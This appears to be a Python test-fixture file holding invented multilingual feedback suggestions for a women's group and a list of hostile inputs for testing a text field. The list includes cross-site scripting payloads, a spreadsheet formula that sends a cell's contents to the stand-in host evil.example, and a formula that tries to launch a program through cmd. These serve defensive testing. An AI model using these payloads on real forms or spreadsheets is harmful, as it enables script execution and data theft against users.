"""What women write in their own words: invented suggestions in five languages, and what nobody wants to find in a text field."""

from __future__ import annotations

SUGGESTIONS = {
    "fr": ("Commencer un quart d'heure plus tard, je dois déposer les petits à l'école.",
           "Plus de temps pour parler entre nous à la fin.",
           "Une salle avec des fenêtres. Celle-ci est sombre, et on entend tout.",
           "J'aimerais revoir l'exercice sur les limites, c'était trop rapide.",
           "Rien, c'était très bien comme ça. Merci !",
           "Prévoir quelque chose pour les enfants pendant les congés.",
           "Que quelqu'un explique les papiers de la mutuelle, pas juste donner l'adresse."),
    "nl": ("Meer tijd om na te praten, een half uur is kort.", "Een lokaal dicht bij de tram zou helpen.",
           "Niets veranderen, het was een warme groep.", "De kinderopvang zat vaak vol, graag meer plaatsen.",
           "Liever in de voormiddag dan op woensdag."),
    "en": ("More time to talk together, please.", "The room was cold in winter.", "I would like some exercises to take home.",
           "Tell us earlier when a session is cancelled."),
    "ar": ("نحتاج إلى وقت أطول للحديث معا.", "أتمنى أن تكون هناك غرفة هادئة للأطفال.", "كل شيء كان جيدا، شكرا لكن.",
           "أريد أن أتعلم المزيد عن الأوراق الإدارية."),
    "tr": ("Çocuklar için bir oda olsun.", "Toplantılar biraz daha geç başlasa iyi olur.", "Her şey çok güzeldi, teşekkürler."),
}

HOSTILE = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")',
    "Très bien 👩‍👧‍👦🙂🇧🇪 même si on était 15 dans 20 m² 😅",
    "\u202eetxet srevne'l à\u202c و نص من اليمين إلى اليسار",
    "Trop long. " + "Et puis il faut aussi que je raconte la suite de cette histoire. " * 120,
    'Guillemets " et « ceci » ; point-virgule;\r\nretour à la ligne,\ttabulation \\ et {{ accolades }} {% raw %}',
    "Fatoumata Exemple de la rue Inventée est venue avec son fils, il a été puni à l'école.",
    "</details><img src=x onerror=alert(2)>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "e\u0301te\u0301 \u200b\u00a0- ﷽ - Ω≈ç√∫",
)
"""Each is planted as it stands: markup, formulas, direction marks, an invented name, several thousand letters."""
